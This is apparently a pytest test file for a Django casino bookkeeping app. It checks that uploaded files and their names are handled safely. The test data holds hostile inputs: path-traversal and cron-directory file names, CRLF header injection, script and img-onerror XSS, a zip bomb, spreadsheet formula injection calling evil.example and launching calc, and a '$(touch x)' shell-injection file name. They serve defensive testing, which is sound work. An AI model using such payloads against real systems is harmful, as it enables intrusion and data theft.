"""Somebody in the accountant's role, or a guest by a name, brings a file that is more than one."""

import csv
import io
import sys
from collections.abc import Iterator
from datetime import timedelta
from io import StringIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from openpyxl import Workbook

from casino.bookkeeping.models import FileImport
from casino.bookkeeping.rules.incoming import MAX_BYTES
from casino.ledger.models import Act, Entry
from casino.staff.models import Role
from tests.api.program import Program, program
from tests.imports import a_session
from tests.world import EVENING, World, a_key

pytestmark = pytest.mark.django_db
IMPORTS = "/tallinn/files/imports/"
HONEST = b"Name\nMari Tamm\n"
NAMES = [
    "../../../../tmp/of-the-attack.csv",
    "/etc/cron.d/of-the-attack",
    "..\\..\\of-the-attack.csv",
    "of-the-attack\r\nSet-Cookie: a=b.csv",
    "<script>of-the-attack</script>.csv",
    "of-the-attack\N{RIGHT-TO-LEFT OVERRIDE}vsc.exe",
]


def a_zip(member: str, megabytes: int) -> bytes:
    """Return an archive whose one member swells to some megabytes."""
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        archive.writestr(member, bytes(megabytes * 1_000_000))
    return out.getvalue()


def a_workbook() -> bytes:
    """Return a spreadsheet with a formula, as a program of an office saves it."""
    book, out = Workbook(), io.BytesIO()
    book.active.append(["Name"])  # type: ignore[union-attr]
    book.active.append(['=HYPERLINK("http://evil.example","Mari")'])  # type: ignore[union-attr]
    book.save(out)
    return out.getvalue()


NO_TABLES = {
    "no UTF-8": (b"Name\nJ\xfcri\n", "Row 2: the file is not UTF-8"),
    "a NUL": (b"Name\nMari\nJu\0ri\n", "Row 3 contains a NUL"),
    "rows without end": (b"Name\n" + b"M\n" * 20_001, "more than 20000 rows"),
    "a line without end": (b"Name\n" + b"M" * (MAX_BYTES - 5), "Row 2: a cell has more than"),
    "more than the limit": (b"M" * (MAX_BYTES + 1), "Maximum 10 MB"),
    "a quote without end": (b'Name\n"Mari\n', "Row 2"),
    "an archive that swells": (a_zip("../../x", 50), "a NUL"),
    "a spreadsheet": (a_workbook(), "a NUL"),
}


@pytest.fixture
def accountant(world: World) -> Client:
    return world.browser(Role.ACCOUNTANT)


@pytest.fixture
def paths() -> Iterator[list[str]]:
    """Every path that anything in this process opens, makes, moves or removes."""
    opened: list[str] = []
    watching = True

    def see(event: str, arguments: tuple[Any, ...]) -> None:
        if watching and event in {"open", "os.mkdir", "os.rename", "os.remove", "os.listdir"}:
            opened.append(str(arguments[0]))

    sys.addaudithook(see)  # one can never be taken off: it stops to watch
    Path(__file__).read_bytes()
    assert opened == [__file__]
    opened.clear()
    yield opened
    watching = False


def brings(browser: Client, data: bytes, *, name: str = "guests.csv", kind: str = "players") -> Any:
    file = SimpleUploadedFile("x.csv", data)
    file._name = name  # what a browser would cut a strange client sends
    return browser.post(IMPORTS, {"key": str(a_key()), "kind": kind, "file": file})


def took_nothing() -> bool:
    done = Act.objects.exclude(operation__in=["test.found", "office.open_club"])
    return not (FileImport.objects.exists() or Entry.objects.exists() or done.exists())


@pytest.mark.parametrize("what", NO_TABLES)
def test_what_is_no_table_is_refused_at_its_field_with_its_reason(accountant: Client, what: str):
    data, says = NO_TABLES[what]

    answer = brings(accountant, data)

    page = answer.content.decode()
    assert answer.status_code in {400, 422}
    assert says in page
    assert 'id="id_file_error"' in page
    assert took_nothing()


@pytest.mark.parametrize("name", NAMES)
def test_what_a_file_is_called_is_never_where_it_goes(
    accountant: Client, paths: list[str], name: str
):
    answer = brings(accountant, HONEST, name=name)
    shown = accountant.get(answer["Location"]) if answer.status_code == 302 else answer

    assert shown.status_code in {200, 422}
    assert "<script>of-the-attack" not in shown.content.decode()
    assert "Set-Cookie" not in shown.headers
    kept = FileImport.objects.values_list("name", flat=True)
    assert not [each for each in kept if {"/", "\\", "\r", "\n"} & set(each)]
    assert not [each for each in paths if "of-the-attack" in each]


@pytest.mark.parametrize("name", NAMES)
def test_nor_where_a_program_names_it(world: World, paths: list[str], name: str):
    told: Program = program(world, Role.ACCOUNTANT)

    answer = told.post("files/imports/", kind="players", name=name, content=HONEST.decode())

    assert answer.status_code in {201, 400, 422}
    if answer.status_code != 201:
        assert "name" in str(answer.json())
    assert not [each for each in paths if "of-the-attack" in each]


def test_formulas_that_came_in_go_out_as_text(world: World, accountant: Client):
    """Numbers for the chart: what stood in the file may not run in who opens the export."""
    since = EVENING - timedelta(days=1)
    evil = "=cmd|' /C calc'!A0"
    out = io.StringIO(newline="")
    rows = [["code", "from_day", "number", "name"], ["bank", str(since), "1020", evil]]
    csv.writer(out).writerows(rows)
    page = brings(accountant, out.getvalue().encode(), kind="accounts")["Location"]

    accountant.post(f"{page}take/", {"key": str(a_key())})
    assert FileImport.objects.get().state == "taken"

    answer = accountant.get("/tallinn/files/accounts.csv")
    text = b"".join(answer) if answer.streaming else answer.content
    cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]
    assert f"'{evil}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_a_guests_name_that_is_a_formula_is_shown_as_text(world: World, accountant: Client):
    name = '=HYPERLINK("http://evil.example?"&A1)<img src=x onerror=alert(1)>'
    out = io.StringIO(newline="")
    csv.writer(out).writerows([["Name"], [name]])

    page = brings(accountant, out.getvalue().encode())["Location"]

    shown = accountant.get(page).content.decode()
    assert "HYPERLINK" in shown
    assert "<img" not in shown


def test_hands_from_a_file_of_a_hostile_name_are_refused_and_nothing_is_booked(
    world: World, tmp_path: Path
):
    """The name is a path only where the server's own keeper typed it; a row of it is never run."""
    session = a_session(world)
    before = Act.objects.count(), Entry.objects.count()
    evil = tmp_path / "$(touch x); \x1b[2J <script>\u202e.jsonl"
    evil.write_bytes(b'{"external_id": "../../x", "pots_cents": [9e999]}\n\xff\xfe\0\n[[[[\n')
    said = StringIO()
    where = {"club": world.club.slug, "session": session.pk, "at": world.at("22:00")}

    with pytest.raises(SystemExit) as ended:
        call_command("import_hands", evil, stdout=said, **where)

    assert ended.value.code == 1
    assert "0 hands taken" in said.getvalue()
    assert (Act.objects.count(), Entry.objects.count()) == before
